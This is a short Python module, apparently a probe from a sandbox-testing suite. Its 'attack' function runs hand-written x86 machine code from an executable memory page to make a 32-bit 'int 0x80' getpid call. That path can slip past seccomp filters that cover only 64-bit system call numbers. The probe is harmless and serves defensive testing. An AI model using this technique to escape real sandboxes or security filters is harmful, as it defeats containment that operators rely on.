"""Call the kernel as a 32-bit program would, where numbers mean other calls."""

import ctypes
import mmap
import os

LIBC = ctypes.CDLL(None, use_errno=True)

STOPPED_BY = ("seccomp",)
NEEDS = "32-bit calls"


def attack(target):
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(bytes([0xB8, 20, 0, 0, 0, 0xCD, 0x80, 0xC3]))  # mov eax, 20 (getpid); int 0x80; ret
    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    return function() == os.getpid()
